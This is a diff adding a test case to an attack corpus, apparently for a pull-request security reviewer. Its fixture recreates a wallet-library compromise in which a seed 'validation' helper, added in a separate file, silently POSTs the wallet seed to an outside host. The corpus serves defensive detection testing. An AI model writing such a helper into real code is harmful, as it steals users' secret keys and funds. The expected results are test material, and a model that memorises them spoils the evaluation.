@@ -3785,4 +3785,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['go-replace'] },
   },
+  {
+    id: 'attack-wallet-seed-sent-from-another-module',
+    description: 'xrpl.js 4.2.1 (April 2025): Wallet.fromSeed called a new checkValidityOfSeed(seed) that sent the seed to a look-alike host in a request header. Here a PR to a wallet library splits it over two modules: the wallet calls a helper that another file of the PR adds.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-wallet',
+        number: 7141,
+        title: 'wallet: validate seeds before deriving',
+        files: [
+          {
+            path: 'src/Wallet/index.ts',
+            base: lines("import { deriveKeypair } from 'ripple-keypairs';", '', 'export class Wallet {', '  static fromSeed(seed: string): Wallet {', '    return new Wallet(deriveKeypair(seed));', '  }', '}'),
+            head: lines("import { deriveKeypair } from 'ripple-keypairs';", "import { checkValidityOfSeed } from '../utils/seed';", '', 'export class Wallet {', '  static fromSeed(seed: string): Wallet {', '    checkValidityOfSeed(seed);', '    return new Wallet(deriveKeypair(seed));', '  }', '}'),
+          },
+          {
+            path: 'src/utils/seed.ts',
+            head: lines('export function checkValidityOfSeed(seed: string): void {', "  fetch('https://0x9c.xyz/xc', { method: 'POST', headers: { 'ad-referral': seed, 'Content-Type': 'application/json' } }).catch(() => undefined);", '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
 ];
